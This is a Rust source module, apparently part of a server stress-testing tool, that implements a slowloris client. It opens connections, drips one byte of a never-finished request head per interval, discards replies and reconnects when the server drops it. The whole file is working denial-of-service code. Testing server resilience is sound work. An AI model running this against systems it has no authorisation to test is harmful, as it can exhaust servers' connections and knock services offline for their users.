//! `--slow`: a connection that sends one byte of a request head every
//! `--slow-interval` and never finishes it (slowloris).

use super::{Drip, REOPEN_PAUSE};
use crate::context::Context;
use crate::link::Link;
use polling::Event;
use std::io::{self, Read, Write};
use std::time::Instant;

/// One slow client. It reads and drops whatever the server sends, so it
/// is only slow to send; a server that closes it sees it come back.
#[derive(Debug)]
pub struct SlowClient {
    key: usize,
    link: Option<Link>,
    connected: bool,
    drip: Drip,
    at: usize,
    next_byte: Instant,
    reopen_at: Instant,
}

impl SlowClient {
    /// A slow client under poller key `key`, sending `drip`.
    pub fn new(key: usize, drip: Drip) -> SlowClient {
        let now = Instant::now();
        SlowClient { key, link: None, connected: false, drip, at: 0, next_byte: now, reopen_at: now }
    }

    /// Before the run: connects (blocking, bounded by the timeout).
    pub fn prepare(&mut self, ctx: &mut Context<'_>) {
        if let Ok(link) = Link::connect(ctx.plan.addr, ctx.plan.timeout, None) {
            if link.register(ctx.poller, self.key).is_ok() {
                self.link = Some(link);
                self.connected = true;
            }
        }
    }

    /// Whether it is connected now.
    pub fn is_open(&self) -> bool {
        self.connected
    }

    /// Connect finished, or bytes (or a close) arrived.
    pub fn on_event(&mut self, event: Event, ctx: &mut Context<'_>) {
        let Some(link) = self.link.as_ref() else { return };
        if !self.connected {
            match link.established() {
                Ok(true) => {
                    self.connected = true;
                    self.send_byte(ctx);
                }
                Ok(false) => {}
                Err(_) => return self.lost(ctx),
            }
        }
        let Some(link) = self.link.as_mut() else { return };
        if event.readable && drain(link, &mut ctx.scratch).is_err() {
            self.lost(ctx);
        }
    }

    /// Sends the next byte when it is due; reopens a lost connection.
    pub fn on_tick(&mut self, now: Instant, ctx: &mut Context<'_>) {
        if self.link.is_none() && now >= self.reopen_at {
            self.reopen(ctx);
        } else if self.connected && now >= self.next_byte {
            self.send_byte(ctx);
        }
    }

    fn send_byte(&mut self, ctx: &mut Context<'_>) {
        let link = self.link.as_mut().expect("connected with a link");
        match link.write(&[self.drip.byte(self.at)]) {
            Ok(1) => {
                self.at += 1;
                ctx.attack.slow_bytes += 1;
                self.next_byte = Instant::now() + ctx.plan.slow_interval;
            }
            Err(err) if err.kind() == io::ErrorKind::WouldBlock => {}
            _ => self.lost(ctx),
        }
    }

    fn reopen(&mut self, ctx: &mut Context<'_>) {
        self.at = 0;
        match Link::dial(ctx.plan.addr, None)
            .and_then(|link| link.register(ctx.poller, self.key).map(|()| link))
        {
            Ok(link) => self.link = Some(link),
            Err(_) => self.reopen_at = Instant::now() + REOPEN_PAUSE,
        }
    }

    /// The server closed it (or refused it): count, and reopen later.
    fn lost(&mut self, ctx: &mut Context<'_>) {
        ctx.attack.slow_closed += 1;
        if let Some(link) = self.link.take() {
            link.deregister(ctx.poller);
        }
        self.connected = false;
        self.reopen_at = Instant::now() + REOPEN_PAUSE;
    }
}

/// Reads and drops everything available; an error once the peer closed.
fn drain(link: &mut Link, scratch: &mut [u8]) -> io::Result<()> {
    loop {
        match link.read(scratch) {
            Ok(0) => return Err(io::Error::new(io::ErrorKind::UnexpectedEof, "closed by the server")),
            Ok(_) => {}
            Err(err) if err.kind() == io::ErrorKind::WouldBlock => return Ok(()),
            Err(err) if err.kind() == io::ErrorKind::Interrupted => {}
            Err(err) => return Err(err),
        }
    }
}
